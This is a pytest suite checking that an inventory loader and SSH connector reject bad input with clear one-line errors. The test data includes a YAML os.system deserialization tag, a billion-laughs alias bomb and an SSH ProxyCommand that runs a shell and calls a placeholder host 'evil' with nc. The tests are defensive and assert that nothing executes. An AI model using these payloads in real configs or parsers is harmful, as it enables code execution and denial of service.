"""Bad input is a clear one-line error naming the file and key, never a traceback or a hang:
the inventory loader (YAML tags, anchors and aliases, nesting, YAML 1.1 scalars, format strings,
look-alike letters, long names, the registry's place), the SSH config (missing file,
ProxyCommand) and --limit."""
import os
import subprocess
import sys
import textwrap

import pytest

from tinsnip_tasks import connect as cx
from tinsnip_tasks.core.inventory import load_inventory
from tinsnip_tasks.core.limit import Limit, parse_limit
from tinsnip_tasks.errors import InputError, InventoryError

BASE = """\
sheets:
  dynamicalsystem: {nas: n, volume: /volume1REG}
nas:
  n: {host: nas1}
machines:
  gazette: {sheet: dynamicalsystem, host: h1, environments: [prod]MORE, services: {hello: {http: 0}}}
"""


def inventory(reg="", more="", text=None):
    return text if text is not None else BASE.replace("REG", reg).replace("MORE", more)


CASES = [
    ("deep-lists", inventory(text="x: " + "[" * 5000 + "]" * 5000), None, "nested deeper than 32"),
    ("deep-maps", inventory(text="x: " + "{a: " * 3000 + "1" + "}" * 3000), None, "nested deeper"),
    ("python-tag", inventory(text="x: !!python/object/apply:os.system ['id > PROOF']"), None,
     "tags (tag:yaml.org,2002:python/object/apply:os.system) are not allowed"),
    ("custom-tag", inventory(more=", number: !pin 5"), None, "tags (!pin) are not allowed"),
    ("binary-tag", inventory(more=", number: !!binary aGVsbG8="), None, "tags"),
    ("alias", inventory(text=BASE.replace("REG", "").replace("MORE", "")
                        .replace("[prod]", "&e [prod]") + "  other: {sheet: dynamicalsystem, "
                        "host: h2, environments: *e}\n"), None, "anchors (&e) are not allowed"),
    ("billion-laughs", inventory(text="a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a]\n"
                                      "c: [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n"), None, "anchors (&a)"),
    ("octal", inventory(more=", number: 010"), None, "'010' is a number written in a way"),
    ("sexagesimal", inventory(more=", number: 1:20"), None, "'1:20' is a number"),
    ("hex", inventory(more=", number: 0x0a"), None, "'0x0a' is a number"),
    ("underscore", inventory(more=", number: 1_0"), None, "'1_0' is a number"),
    ("yes-as-bool", inventory().replace("host: nas1", "host: yes"), None, "'yes' is read as a boolean"),
    ("on-as-env", inventory().replace("[prod]", "[prod, on]"), None, "'on' is read as a boolean"),
    ("format-attribute", inventory(reg=", registry: '{volume.nope}'"), "sheets.dynamicalsystem.registry",
     "cannot be filled in ('volume.nope')"),
    ("format-index", inventory(reg=", registry: '{volume[x]}'"), "sheets.dynamicalsystem.registry",
     "cannot be filled in"),
    ("format-width", inventory(reg=", registry: '{volume:>99999999}'"),
     "sheets.dynamicalsystem.registry", "only {volume}, {sheet} and {env}"),
    ("format-unclosed", inventory(reg=", registry: '{volume}/{'"), "sheets.dynamicalsystem.registry",
     "Single '{'"),
    ("registry-outside-volume", inventory(reg=", registry: '/etc/{sheet}'"),
     "sheets.dynamicalsystem.registry", "gives /etc/dynamicalsystem, outside the sheet's volume"),
    ("look-alike", inventory().replace("gazette:", "g\u0430zette:"), "machines.g\u0430zette",
     "CYRILLIC SMALL LETTER A, which only looks like a letter"),
    ("long-name", inventory().replace("gazette", "a" * 32), "machines." + "a" * 32,
     "its user " + "a" * 32 + "-prod would have 37 characters"),
    ("long-name-test", inventory().replace("gazette", "a" * 27).replace("[prod]", "[prod, preview]"),
     "machines." + "a" * 27, "-preview would have 35 characters and Linux allows 32"),
    ("forward-list", inventory().replace("{hello: {http: 0}}",
                                         "{hello: {ports: {http: 0}, forward: {80: [http]}}}"),
     "machines.gazette.services.hello.forward.80", "is not one of this service's ports"),
    ("non-string-key", inventory().replace("{hello: {http: 0}}", "{hello: {http: 0}, 5: {x: 1}}"),
     "machines.gazette.services.5", "service name 5 is not valid"),
    ("newline-in-name", inventory(text=BASE.replace("REG", "").replace("MORE", "")
                                  .replace("  gazette:", '  "gaz\\nette":')),
     "machines.gaz\\nette", "is not valid"),
]


@pytest.mark.parametrize("text, key, message", [c[1:] for c in CASES], ids=[c[0] for c in CASES])
def test_bad_inventories_are_one_line_errors(tmp_path, monkeypatch, text, key, message):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "inventory.yaml").write_text(text)
    with pytest.raises(InventoryError) as e:
        load_inventory(tmp_path / "inventory.yaml")
    assert e.value.key == key and message in str(e.value), str(e.value)
    assert "\n" not in str(e.value) and len(str(e.value)) < 700
    assert not (tmp_path / "PROOF").exists()


def test_plain_values_and_a_registry_inside_the_volume_still_load(tmp_path):
    (tmp_path / "inventory.yaml").write_text(
        inventory(reg=", registry: '{volume}/{sheet}/reg-{env}'", more=", number: 10")
        .replace("gazette", "web") + "  " + "b" * 27 + ": {sheet: dynamicalsystem, host: h2,"
        " environments: [test], number: 11}\n")
    inv = load_inventory(tmp_path / "inventory.yaml")
    assert inv.machine("web").number == 10 and inv.machine("b" * 27).number == 11
    assert inv.registry_path("dynamicalsystem", "test") == "/volume1/dynamicalsystem/reg-test"


def test_a_fifo_as_inventory_is_refused_without_waiting(tmp_path):
    os.mkfifo(tmp_path / "inventory.yaml")
    code = textwrap.dedent(f"""
        from tinsnip_tasks.core.inventory import load_inventory
        from tinsnip_tasks.errors import InventoryError
        try:
            load_inventory({str(tmp_path / 'inventory.yaml')!r})
        except InventoryError as e:
            print(e)
    """)
    p = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60)
    assert "is not a regular file" in p.stdout, p.stderr


def test_a_missing_ssh_config_is_a_clear_error(tmp_path):
    with pytest.raises(InputError, match=r"the SSH config file .*nope \(tinsnip.ssh_config\) does not exist"):
        cx.connect("homelab1", cx.SshProfile(ssh_config=str(tmp_path / "nope")))


def test_a_proxycommand_is_refused_when_hosts_are_restricted(tmp_path):
    config = tmp_path / "ssh_config"
    config.write_text("Host homelab1\n    ProxyCommand sh -c 'id > PROOF; nc evil 22'\n")
    profile = cx.SshProfile(ssh_config=str(config), allowed_hosts=frozenset({"homelab1"}))
    with pytest.raises(InputError, match="through a ProxyCommand .* cannot check; use ProxyJump"):
        cx.connect("homelab1", profile)
    assert not (tmp_path / "PROOF").exists()


@pytest.mark.parametrize("text", [" ", "\t", " , ", ","])
def test_a_blank_limit_selects_nothing_and_says_so(text):
    with pytest.raises(InputError, match="--limit"):
        parse_limit(text)
    assert parse_limit("") == Limit()  # no pattern: everything
